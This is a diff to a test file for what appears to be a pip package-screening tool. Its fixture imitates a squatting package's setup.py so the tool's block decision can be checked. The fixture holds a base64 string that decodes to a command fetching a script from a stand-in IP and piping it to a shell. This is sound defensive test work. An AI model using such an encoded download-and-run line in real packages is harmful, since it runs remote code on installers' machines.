@@ -19,7 +19,7 @@ from safe_pip.policy.rules import Context, Decision, Thresholds, decide
 from safe_pip.policy.settings import Policy
 from safe_pip.terminal.panel import print_panel
 from safe_pip.terminal.tally import Tally, summary_line
-from safe_pip.verdict import Finding
+from safe_pip.verdict import Finding, RuleHit
 from tests.policies import NOW, make_verdict
 
 COLUMNS = 80
@@ -35,11 +35,11 @@ def blocked() -> Decision:
     """A harmless look-alike of what a squat does in its setup.py."""
     finding = Finding(
         evidence=Evidence(
-            feature="chain_decode_exec_unasked",
+            feature="chain_decode_spawn_unasked",
             location=Location(path="setup.py", line=4),
             surface=Surface.SETUP,
-            excerpt='exec(base64.b64decode("aW1wb3J0IG9zO3ByaW50KG9zLmVudmlyb24p"))',
-            detail="decodes data and executes it",
+            excerpt='os.system(base64.b64decode("Y3VybCBodHRwOi8vMTkyLjAuMi4xL3h8c2g="))',
+            detail="decodes a command or program and starts it",
         ),
         group=Group.CODE,
         contribution=0.4,
@@ -50,12 +50,21 @@ def blocked() -> Decision:
         filename="demo-1.0.tar.gz",
         sha256=hashlib.sha256(b"demo").hexdigest(),
         findings=(finding,),
+        rules=(
+            RuleHit(
+                name="install-decodes",
+                says="decodes a hidden command and starts it while installing",
+                path="setup.py",
+                line=4,
+                is_block=True,
+            ),
+        ),
     )
     return decide(
         verdict,
         Policy(),
         Context(origin=OriginKind.INDEX, required_by=("flask==3.1", "demo-tools", "demo")),
-        thresholds=Thresholds(ask=0.9867, block=0.9938),
+        thresholds=Thresholds(ask=0.9825, block=0.9972),
         now=NOW,
     )
 
